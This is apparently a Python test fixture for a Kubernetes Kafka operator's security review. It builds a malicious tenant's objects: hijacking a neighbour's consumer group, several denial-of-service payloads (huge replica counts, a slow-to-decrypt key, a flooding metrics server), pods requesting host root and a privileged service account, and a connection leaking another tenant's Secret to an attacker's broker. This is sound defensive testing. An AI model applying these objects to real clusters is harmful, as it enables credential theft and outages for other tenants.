"""What somebody can do to others who may write ConsumerGroups, KafkaConnections and Secrets in one namespace.

Each attack is a set of plain objects, and stands for a finding of the security review; its number is in its name.
"""

from __future__ import annotations

from base64 import b64encode, encodebytes
from collections.abc import Mapping
from itertools import islice
from typing import Any, Final

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from tests.adapters.kafka.lying_broker import Lie
from tests.adapters.kafka.test_security import with_most_rounds
from tests.e2e.stage.cluster import Cluster, Json
from tests.e2e.stage.groups import CONNECTION, connection, consumer_group, with_command
from tests.e2e.tenants.evil_servers import Servers

SLOW_BROKERS: Final = 24
"""Half as many again as there are workers."""
MOST_REPLICAS: Final = 10_000
CLAIMANTS: Final = 1_000
FLEETS: Final = 40
FREEZES: Final = 64
CAMPAIGNS: Final = 50
THIEF: Final = "s3-thief"
"""A ConsumerGroup under the very name of the neighbour's, applied and deleted at once."""
NAMES: Final = (
    "s2-many",
    THIEF,
    "s3-claimant-0",
    "s6-token",
    "s7-flood",
    *(f"s7-{lie}" for lie in Lie),
    "s8-rounds",
    "s9-metrics",
    "s11-slow-0",
    "s12-storm",
    "s12-flap",
    "s13-scan",
    "s14-members",
    "s15-weak",
    "f1-freezes",
    "f2-campaigns",
    "f3-large",
)
_METRICS: Final = """
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        if self.path == "/ready":
            return
        for number in range(1000):
            self.wfile.write(b"x" * 65536 + b"{a=\\"b" * 100)
    def log_message(self, *_):
        pass
ThreadingHTTPServer(("", 8080), Handler).serve_forever()
"""


def attacks(evil: Cluster, at: Servers, kafka: str, stolen: str, stolen_group_id: str) -> Mapping[str, list[Json]]:
    """The objects of each, to be applied in any order. `kafka`: the real one, in which the stolen group is; `stolen`:
    the name of its ConsumerGroup."""
    slow = [each for n in range(SLOW_BROKERS) for each in _by(evil, f"s11-slow-{n}", at.silent)]
    made = {
        "s2-many": [group(evil, "s2-many", "main", replicas=MOST_REPLICAS)],
        THIEF: [
            group(evil, stolen, "main", groupId=stolen_group_id, replicas=100, deletionPolicy="DeleteGroup"),
        ],
        "s3-claimant-0": [
            group(evil, f"s3-claimant-{n}", "main", replicas=1, groupId=stolen_group_id) for n in range(CLAIMANTS)
        ],
        "s6-token": [
            secret("token", clientId="me", clientSecret="x", tokenEndpoint=f"http://{at.silent}/token"),
            *_by(evil, "s6-token", kafka, authentication=log_in("OAuthBearer", "token")),
        ],
        "s7-flood": _by(evil, "s7-flood", at.flood),
        **{f"s7-{lie}": _by(evil, f"s7-{lie}", at.liars[lie]) for lie in Lie},
        "s8-rounds": [
            secret("rounds", **{"tls.crt": "no certificate", "tls.key": slow_key()}),
            *_by(evil, "s8-rounds", kafka, tls={"certificateSecretRef": {"name": "rounds"}}),
        ],
        "s9-metrics": [with_command(scraped(evil), f"exec python3 -c '{_METRICS}'")],
        "s11-slow-0": slow,
        "s12-storm": _by(evil, "s12-storm", at.silent, observe={"movingInterval": "100ms", "restInterval": "1s"}),
        "s12-flap": _by(evil, "s12-flap", at.flapping, observe={"movingInterval": "100ms", "restInterval": "1s"}),
        "s13-scan": _by(evil, "s13-scan", at.no_broker),
        "s14-members": [group(evil, "s14-members", "main", replicas=1)],
        "s15-weak": [
            secret("weak", username="me", password="x"),
            *_by(evil, "s15-weak", at.weak.address, authentication=log_in("ScramSha256", "weak")),
        ],
        "f1-freezes": [group(evil, "f1-freezes", "main", replicas=1), *(frozen_each_minute(n) for n in range(FLEETS))],
        "f2-campaigns": [
            group(evil, "f2-campaigns", "main", replicas=1),
            fleet("f2", selector={}),
            *(campaign(f"f2-{n}") for n in range(CAMPAIGNS)),
        ],
        "f3-large": [group(evil, "f3-large", "main", replicas=1), large_fleet()],
    }
    assert made.keys() == set(NAMES)
    return {CONNECTION: [connection(kafka)], **made}


def borrowed_pods(evil: Cluster) -> Json:
    """S5: pods that a tenant may not make, with what makes them worth it."""
    made = group(evil, "s5-pods", CONNECTION, replicas=1)
    pods = made["spec"]["template"]["spec"]
    pods |= {"hostPID": True, "hostNetwork": True, "serviceAccountName": "cluster-automation"}
    pods["volumes"] = [{"name": "node", "hostPath": {"path": "/"}}, {"name": "s", "secret": {"secretName": "login"}}]
    return made


def borrowed_secret(at: Servers) -> Json:
    """S4: a Secret that a tenant may not read goes to the tenant's own broker."""
    return connection(at.weak.address, "s4-deputy", authentication=log_in("ScramSha256", "login"))


def group(evil: Cluster, name: str, connection_name: str, **spec: Any) -> Json:
    return consumer_group(evil, name, evil.namespace, **{"connectionRef": {"name": connection_name}, **spec})


def fleet(name: str, **spec: Any) -> Json:
    return _of_fleets("ConsumerFleet", name, **spec)


def campaign(name: str) -> Json:
    """It says what would be, of all groups of the namespace."""
    return _of_fleets("FleetCampaign", name, fleetRef={"name": "f2"}, action={"restart": {}}, dryRun=True)


def frozen_each_minute(number: int) -> Json:
    """As often as a schedule can be, and as many as a fleet may have."""
    freezes = [{"name": f"f{each}", "schedule": "* * * * *", "duration": "1m"} for each in range(FREEZES)]
    return fleet(f"f1-{number}", selector={}, timeZone="Europe/Berlin", freezes=freezes)


def large_fleet() -> Json:
    """275 kB: more than is read of a spec, and less than the API server takes."""
    texts = (f"{number:063d}" for number in range(16 * 32))
    requirements = [{"key": f"k{n}", "operator": "NotIn", "values": list(islice(texts, 32))} for n in range(16)]
    waves = [{"name": f"w{number}", "selector": {"matchExpressions": requirements}} for number in range(8)]
    return fleet("f3", selector={}, waves=waves)


def _of_fleets(kind: str, name: str, **spec: Any) -> Json:
    return {"apiVersion": "slackwater.dev/v1alpha1", "kind": kind, "metadata": {"name": name}, "spec": spec}


def scraped(evil: Cluster) -> Json:
    made = group(evil, "s9-metrics", "main", replicas=1)
    made["spec"]["client"] = {**made["spec"]["client"], "metrics": {"port": 8080}}
    return made


def _by(evil: Cluster, name: str, servers: str, **spec: Any) -> list[Json]:
    """A connection to these brokers, and a group that uses it."""
    return [connection(servers, name, **spec), group(evil, name, name, replicas=1)]


def log_in(kind: str, name: str) -> Json:
    return {"type": kind, "secretRef": {"name": name}, "allowUnencrypted": True}


def secret(name: str, **data: str) -> Json:
    encoded = {key: b64encode(value.encode()).decode() for key, value in data.items()}
    return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "data": encoded}


def slow_key() -> str:
    """An encrypted private key that takes OpenSSL the better part of an hour to open."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    locked = serialization.BestAvailableEncryption(b"locked")
    der = with_most_rounds(key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, locked))
    return f"-----BEGIN ENCRYPTED PRIVATE KEY-----\n{encodebytes(der).decode()}-----END ENCRYPTED PRIVATE KEY-----\n"
